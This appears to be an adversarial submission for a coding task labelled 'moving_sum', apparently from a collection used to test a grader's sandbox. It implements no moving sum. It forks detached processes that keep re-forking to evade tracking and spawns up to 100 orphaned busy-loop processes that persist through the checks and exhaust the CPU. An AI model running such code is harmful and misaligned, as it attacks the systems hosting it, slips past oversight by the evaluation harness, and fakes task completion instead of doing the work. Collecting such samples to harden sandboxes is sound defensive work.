# Tries: processes without parents, each replacing itself all the time, that go on during the checks.
# Solves: moving_sum

# %% total
import os

if os.fork() == 0:
    os.setsid()
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass
for _ in range(100):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    except OSError:
        pass
